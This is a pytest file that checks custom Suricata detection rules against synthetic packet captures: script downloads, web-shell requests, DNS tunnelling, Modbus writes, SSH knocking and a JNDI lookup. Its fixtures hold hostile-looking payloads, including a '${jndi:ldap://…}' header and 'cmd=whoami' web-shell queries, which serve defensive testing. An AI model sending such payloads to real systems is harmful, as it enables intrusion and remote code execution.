"""Our Suricata rules, run by the real Suricata on pcaps made here with scapy: IPv4 and IPv6."""

from __future__ import annotations

import json
import shutil
import struct
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether
from scapy.packet import Packet

from demo.packets import Conversation, attack, download, modbus_writes, pcap

RULES = Path(__file__).resolve().parents[2] / "rules" / "suricata"
SIDS = set(range(1_000_001, 1_000_010))
OUTSIDE, OUTSIDE6 = "203.0.113.66", "2001:db8:bad::66"
SERVER, SERVER6 = "10.40.0.11", "fd00:40::b"
CLOCK = 1_795_400_000.0

pytestmark = [
    pytest.mark.suricata,
    pytest.mark.skipif(shutil.which("suricata") is None, reason="needs suricata (apt install suricata)"),
]


def request(client: tuple[str, int], server: tuple[str, int], lines: str, reply: bytes = b"ok") -> list[Packet]:
    talk = Conversation(client, server, CLOCK)
    talk.say(0, lines.replace("\n", "\r\n").encode() + b"\r\n\r\n")
    talk.say(1, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % len(reply) + reply)
    return talk.close()


def get(client: str, server: str, target: str, *headers: str) -> list[Packet]:
    """An HTTP request with a Host and further headers."""
    lines = "\n".join((f"GET {target} HTTP/1.1", "Host: portal.example", *headers))
    return request((client, 40_010), (server, 80), lines)


def network(source: str, target: str) -> Packet:
    return Ether() / (IPv6(src=source, dst=target) if ":" in source else IP(src=source, dst=target))


def questions(source: str, target: str, labels: list[str]) -> list[Packet]:
    packets = []
    for number, label in enumerate(labels):
        question = DNS(id=number, rd=1, qd=DNSQR(qname=f"{label}.t.vendor.example", qtype="TXT"))
        packet = network(source, target) / UDP(sport=30_000 + number, dport=53) / question
        packet.time = CLOCK + number
        packets.append(packet)
    return packets


def knocks(source: str, target: str, count: int) -> list[Packet]:
    packets = []
    for number in range(count):
        packet = network(source, target) / TCP(sport=40_000 + number, dport=22, flags="S", seq=number)
        packet.time = CLOCK + number * 0.5
        packets.append(packet)
    return packets


def telnet(client: str, server: str, text: bytes) -> list[Packet]:
    talk = Conversation((client, 40_100), (server, 23), CLOCK)
    talk.say(1, text)
    return talk.close()


def reads(client: str, server: str) -> list[Packet]:
    talk = Conversation((client, 40_200), (server, 502), CLOCK)
    talk.say(0, struct.pack(">HHHBBHH", 1, 0, 6, 1, 3, 0, 2))
    talk.say(1, struct.pack(">HHHBBBHH", 1, 0, 7, 1, 3, 4, 10, 20))
    return talk.close()


LABEL = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrt"
CASES: dict[str, tuple[list[Packet], set[int]]] = {
    "script by curl": (download(CLOCK, (SERVER, 40_001), (OUTSIDE, 8080), "/k/u.sh", "curl/7.88.1"), {1_000_001, 1_000_009}),
    "script by wget, IPv6": (download(CLOCK, (SERVER6, 40_001), (OUTSIDE6, 80), "/k.sh", "Wget/1.21"), {1_000_001, 1_000_009}),
    "script by browser": (get(SERVER, OUTSIDE, "/a.sh", "User-Agent: Mozilla/5.0"), set()),
    "web shell": (get(OUTSIDE, SERVER, "/u/a.php?cmd=whoami"), {1_000_002}),
    "web shell, IPv6": (get(OUTSIDE6, SERVER6, "/u/a.php?x=1&exec=cat%20/x"), {1_000_002}),
    "search": (get(OUTSIDE, SERVER, "/search?q=whoami"), set()),
    "dns tunnel": (questions(SERVER, "10.70.0.53", [f"{LABEL}{n:04d}" for n in range(25)]), {1_000_003}),
    "dns tunnel, IPv6": (questions(SERVER6, "fd00:70::35", [f"{LABEL}{n:04d}" for n in range(25)]), {1_000_003}),
    "few long names": (questions(SERVER, "10.70.0.53", [f"{LABEL}{n:04d}" for n in range(10)]), set()),
    "usual names": (questions(SERVER, "10.70.0.53", [f"host-{n}" for n in range(40)]), set()),
    "modbus write": (modbus_writes(CLOCK, (SERVER, 40_005), ("10.60.0.101", 502), ((40, 1),)), {1_000_004}),
    "modbus write, IPv6": (modbus_writes(CLOCK, (SERVER6, 40_005), ("fd00:60::65", 502), ((40, 1),)), {1_000_004}),
    "modbus read": (reads(SERVER, "10.60.0.101"), set()),
    "ssh knocking": (knocks(OUTSIDE, SERVER, 16), {1_000_005}),
    "ssh knocking, IPv6": (knocks(OUTSIDE6, SERVER6, 16), {1_000_005}),
    "ssh as usual": (knocks(OUTSIDE, SERVER, 5), set()),
    "jndi": (get(OUTSIDE, SERVER, "/", "X-Api: ${jndi:ldap://203.0.113.66/a}"), {1_000_006}),
    "no jndi": (get(OUTSIDE, SERVER, "/", "X-Api: jndi"), set()),
    "telnet": (telnet("10.70.0.20", "10.70.0.3", b"\r\nSW-CORE-01 login: "), {1_000_007}),
    "port 23 without prompt": (telnet("10.70.0.20", "10.70.0.3", b"\r\nwelcome\r\n"), set()),
    "basic password": (get(SERVER, OUTSIDE, "/", "Authorization: Basic dTpw"), {1_000_008}),
    "bearer token": (get(SERVER, OUTSIDE, "/", "Authorization: Bearer abc"), set()),
}


def alerts_of(capture: bytes, folder: Path) -> set[int]:
    """Sids that Suricata raises on a pcap with our rules alone."""
    (folder / "in.pcap").write_bytes(capture)
    home = "[10.0.0.0/8,172.16.0.0/12,192.168.0.0/16,fc00::/7]"
    command = ["suricata", "-r", str(folder / "in.pcap"), "-l", str(folder), "-S", str(RULES / "liandun.rules"), "-k", "none"]
    settings = {
        "vars.address-groups.HOME_NET": home,
        "app-layer.protocols.modbus.enabled": "yes",
        "classification-file": str(RULES / "classification.config"),
    }
    command += [word for name, value in settings.items() for word in ("--set", f"{name}={value}")]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    assert "E: " not in done.stderr + done.stdout
    lines = (folder / "eve.json").read_text().splitlines()
    return {entry["alert"]["signature_id"] for entry in map(json.loads, lines) if entry["event_type"] == "alert"}


@pytest.mark.slow
@pytest.mark.parametrize("name", CASES)
def test_rule_on_its_traffic(name: str, tmp_path: Path) -> None:
    packets, expected = CASES[name]
    assert alerts_of(pcap(packets), tmp_path) & SIDS == expected


def test_the_pcap_of_the_demo_raises_what_the_ground_truth_says(tmp_path: Path) -> None:
    capture = attack(datetime.fromtimestamp(CLOCK, UTC), SERVER, 40_222, (OUTSIDE, 8080), "10.60.0.102")
    assert alerts_of(capture, tmp_path) == {1_000_001, 1_000_004, 1_000_009}


def test_every_rule_is_tried_both_ways() -> None:
    assert {sid for _, expected in CASES.values() for sid in expected} == SIDS
    assert sum(not expected for _, expected in CASES.values()) >= 6
